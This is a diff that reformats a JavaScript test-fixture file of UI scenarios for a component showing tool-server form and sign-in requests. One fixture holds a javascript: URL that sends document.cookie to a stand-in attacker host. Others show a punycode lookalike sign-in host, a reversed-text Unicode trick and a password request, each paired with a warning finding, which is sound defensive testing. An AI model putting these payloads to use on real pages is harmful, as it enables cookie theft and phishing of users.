@@ -1,6 +1,10 @@
 // The questions that are drawn for the screens: one or more for every state the element has.
 const now = () => Date.now();
-const call = { method: 'tools/call', name: 'delete_stale_records', arguments: { older_than: '2024-01-01', table: 'customers', token: '••••••' } };
+const call = {
+  method: 'tools/call',
+  name: 'delete_stale_records',
+  arguments: { older_than: '2024-01-01', table: 'customers', token: '••••••' },
+};
 const base = () => ({
   v: 1,
   id: 'pBq2vJ0xW1kq',
@@ -16,17 +20,55 @@ const base = () => ({
 });
 const form = fields => ({ fields, schema: { type: 'object', properties: {} }, revision: '2026-07-28' });
 const options = titles => titles.map(title => ({ value: title.toLowerCase(), title }));
-const cities = ['Aberdeen', 'Amsterdam', 'Athens', 'Barcelona', 'Belgrade', 'Berlin', 'Bern', 'Bilbao', 'Bologna', 'Bordeaux', 'Bratislava', 'Bremen', 'Brno', 'Brussels', 'Bucharest', 'Budapest', 'Cologne', 'Copenhagen', 'Dresden', 'Dublin'];
+const cities = [
+  'Aberdeen',
+  'Amsterdam',
+  'Athens',
+  'Barcelona',
+  'Belgrade',
+  'Berlin',
+  'Bern',
+  'Bilbao',
+  'Bologna',
+  'Bordeaux',
+  'Bratislava',
+  'Bremen',
+  'Brno',
+  'Brussels',
+  'Bucharest',
+  'Budapest',
+  'Cologne',
+  'Copenhagen',
+  'Dresden',
+  'Dublin',
+];
 
 const everyKind = () =>
   form([
     { kind: 'text', name: 'title', label: 'Title', description: 'Shown on the first page.', required: true, maxLength: 80 },
     { kind: 'text', name: 'mail', label: 'Send a copy to', required: false, format: 'email' },
     { kind: 'choice', name: 'env', label: 'Environment', required: true, options: options(['Staging', 'Production (live traffic)']) },
-    { kind: 'number', name: 'threshold', label: 'Threshold', description: 'Rows below it are left out.', required: true, minimum: 0, maximum: 10000, default: 12.5 },
+    {
+      kind: 'number',
+      name: 'threshold',
+      label: 'Threshold',
+      description: 'Rows below it are left out.',
+      required: true,
+      minimum: 0,
+      maximum: 10000,
+      default: 12.5,
+    },
     { kind: 'boolean', name: 'archive', label: 'Archive the old report?', required: false },
     { kind: 'text', name: 'when', label: 'When should it run?', required: true, format: 'date-time' },
-    { kind: 'choices', name: 'teams', label: 'Teams to tell', required: false, minItems: 1, maxItems: 2, options: options(['Finance', 'Legal', 'Support']) },
+    {
+      kind: 'choices',
+      name: 'teams',
+      label: 'Teams to tell',
+      required: false,
+      minItems: 1,
+      maxItems: 2,
+      options: options(['Finance', 'Legal', 'Support']),
+    },
     { kind: 'text', name: 'notes', label: 'Notes', required: false, maxLength: 2000 },
   ]);
 
@@ -76,7 +118,15 @@ export const questions = {
     view: () => ({
       ...base(),
       message: 'Which release window?\nThe one you chose has closed.',
-      form: form([{ kind: 'choice', name: 'slot', label: 'Window', required: true, options: options(['Tonight 22:00', 'Tomorrow 06:00', 'Tomorrow 22:00']) }]),
+      form: form([
+        {
+          kind: 'choice',
+          name: 'slot',
+          label: 'Window',
+          required: true,
+          options: options(['Tonight 22:00', 'Tomorrow 06:00', 'Tomorrow 22:00']),
+        },
+      ]),
       rejected: [{ field: 'slot', rule: 'not-an-option', message: 'Choose another window: tonight 20:00 has closed' }],
     }),
   },
@@ -92,7 +142,15 @@ export const questions = {
           name: 'who',
           label: 'Person',
           required: true,
-          options: options(['Chris Adebayo · Finance', 'Chris Lindqvist · Support, Malmö', 'Chris Moreau · Legal', 'Chris Novak · Warehouse', 'Chris Okafor · Finance', 'Chris Petrov · Research', 'Somebody else']),
+          options: options([
+            'Chris Adebayo · Finance',
+            'Chris Lindqvist · Support, Malmö',
+            'Chris Moreau · Legal',
+            'Chris Novak · Warehouse',
+            'Chris Okafor · Finance',
+            'Chris Petrov · Research',
+            'Somebody else',
+          ]),
         },
       ]),
     }),
@@ -105,7 +163,13 @@ export const questions = {
       server: { name: 'Logistics', claim: { name: 'ship-it' } },
       call: { method: 'tools/call', name: 'create_shipment', arguments: { order: 'A-1042' } },
       form: form([
-        { kind: 'choice', name: 'from', label: 'Warehouse', required: true, options: options(cities.flatMap(city => [`${city} North`, `${city} South`])) },
+        {
+          kind: 'choice',
+          name: 'from',
+          label: 'Warehouse',
+          required: true,
+          options: options(cities.flatMap(city => [`${city} North`, `${city} South`])),
+        },
         { kind: 'choices', name: 'via', label: 'Hubs on the way', required: false, maxItems: 3, options: options(cities) },
       ]),
     }),
@@ -123,7 +187,11 @@ export const questions = {
       server: { name: 'Calendar', claim: { name: 'calendar-mcp', version: '3.0' } },
       call: { method: 'tools/call', name: 'list_events', arguments: {} },
       message: 'To read your calendar, sign in at the provider and allow access.',
-      url: { href: 'https://accounts.example.com/o/authorize?flow=7f3c0d1e9a5b4c28&return=https%3A%2F%2Fcalendar.example.net%2Fdone', host: 'accounts.example.com', openable: true },
+      url: {
+        href: 'https://accounts.example.com/o/authorize?flow=7f3c0d1e9a5b4c28&return=https%3A%2F%2Fcalendar.example.net%2Fdone',
+        host: 'accounts.example.com',
+        openable: true,
+      },
     }),
   },
   'url-odd': {
@@ -131,10 +199,25 @@ export const questions = {
       ...base(),
       server: { name: 'Calendar' },
       message: 'Sign in to go on.',
-      url: { href: 'https://accounts.example.com.login.xn--80ak6aa92e.example/o?flow=7f3c', host: 'accounts.example.com.login.xn--80ak6aa92e.example', openable: true },
+      url: {
+        href: 'https://accounts.example.com.login.xn--80ak6aa92e.example/o?flow=7f3c',
+        host: 'accounts.example.com.login.xn--80ak6aa92e.example',
+        openable: true,
+      },
       findings: [
-        { id: 'punycode-host', severity: 'warning', where: 'url', span: [36, 58], sentence: 'The host is written in another alphabet: it may only look like one you know.' },
-        { id: 'deep-host', severity: 'warning', where: 'url', sentence: 'The address begins like accounts.example.com, but belongs to xn--80ak6aa92e.example.' },
+        {
+          id: 'punycode-host',
+          severity: 'warning',
+          where: 'url',
+          span: [36, 58],
+          sentence: 'The host is written in another alphabet: it may only look like one you know.',
+        },
+        {
+          id: 'deep-host',
+          severity: 'warning',
+          where: 'url',
+          sentence: 'The address begins like accounts.example.com, but belongs to xn--80ak6aa92e.example.',
+        },
       ],
     }),
   },
@@ -152,7 +235,9 @@ export const questions = {
       ...base(),
       message: 'Open this to continue.',
       url: { href: "javascript:fetch('https://evil.example/'+document.cookie)", host: '', openable: false },
-      findings: [{ id: 'scheme', severity: 'danger', where: 'url', sentence: 'This is not a web address: it would run a program in this page.' }],
+      findings: [
+        { id: 'scheme', severity: 'danger', where: 'url', sentence: 'This is not a web address: it would run a program in this page.' },
+      ],
     }),
   },
   secret: {
@@ -160,7 +245,9 @@ export const questions = {
       ...base(),
       message: 'Please enter your password to continue.',
       form: form([{ kind: 'text', name: 'password', label: 'Password', required: true }]),
-      findings: [{ id: 'secret-ask', severity: 'danger', where: { field: 'password' }, sentence: 'The field “Password” asks for a password.' }],
+      findings: [
+        { id: 'secret-ask', severity: 'danger', where: { field: 'password' }, sentence: 'The field “Password” asks for a password.' },
+      ],
     }),
     element: { offers: { cutOff: true, mute: true } },
   },
@@ -169,7 +256,15 @@ export const questions = {
       ...base(),
       message: 'Approve the invoice at https://pay.example.com/8841 \u202eslliB\u202c now?',
       form: form([{ kind: 'boolean', name: 'ok', label: 'I have checked the amount', required: true }]),
-      findings: [{ id: 'bidi', severity: 'warning', where: 'message', span: [53, 60], sentence: 'The message holds characters that turn the reading direction around.' }],
+      findings: [
+        {
+          id: 'bidi',
+          severity: 'warning',
+          where: 'message',
+          span: [53, 60],
+          sentence: 'The message holds characters that turn the reading direction around.',
+        },
+      ],
     }),
     act: async page => el(page).getByRole('button', { name: 'More for this question' }).click(),
     element: { offers: { cutOff: true, mute: true } },
@@ -177,15 +272,33 @@ export const questions = {
   long: {
     view: () => ({
       ...base(),
-      message: Array.from({ length: 22 }, (_, i) => `${i + 1}. Move the records of region ${i + 1} to the archive and tell its owner about it.`).join('\n'),
-      form: form([{ kind: 'choice', name: 'go', label: 'How to proceed', required: true, options: options(['All of them', 'Only regions 1 to 10', 'None']) }]),
+      message: Array.from(
+        { length: 22 },
+        (_, i) => `${i + 1}. Move the records of region ${i + 1} to the archive and tell its owner about it.`,
+      ).join('\n'),
+      form: form([
+        {
+          kind: 'choice',
+          name: 'go',
+          label: 'How to proceed',
+          required: true,
+          options: options(['All of them', 'Only regions 1 to 10', 'None']),
+        },
+      ]),
     }),
   },
   opaque: {
     view: () => ({
       ...base(),
       form: form([
-        { kind: 'opaque', name: 'filter', label: 'Filter', description: 'Rows that match are kept.', required: false, schema: { type: 'object', properties: { from: { type: 'string' } } } },
+        {
+          kind: 'opaque',
+          name: 'filter',
+          label: 'Filter',
+          description: 'Rows that match are kept.',
+          required: false,
+          schema: { type: 'object', properties: { from: { type: 'string' } } },
+        },
         { kind: 'text', name: 'day', label: 'Day', required: true, format: 'date' },
       ]),
     }),
@@ -201,7 +314,14 @@ export const questions = {
   delivered: { view: () => ({ ...base(), state: 'delivered', action: 'accept', form: everyKind() }) },
   undeliverable: { view: () => ({ ...base(), state: 'undeliverable', action: 'accept', form: everyKind() }) },
   declined: { view: () => ({ ...base(), state: 'delivered', action: 'decline', form: everyKind() }) },
-  withdrawn: { view: () => ({ ...base(), state: 'withdrawn', form: everyKind(), draft: { v: 1, at: 0, values: [['title', 'Quarterly retention report']] } }) },
+  withdrawn: {
+    view: () => ({
+      ...base(),
+      state: 'withdrawn',
+      form: everyKind(),
+      draft: { v: 1, at: 0, values: [['title', 'Quarterly retention report']] },
+    }),
+  },
   expired: { view: () => ({ ...base(), state: 'expired', form: everyKind() }) },
   german: { view: () => ({ ...base(), form: everyKind() }), element: { locale: 'de' } },
 };
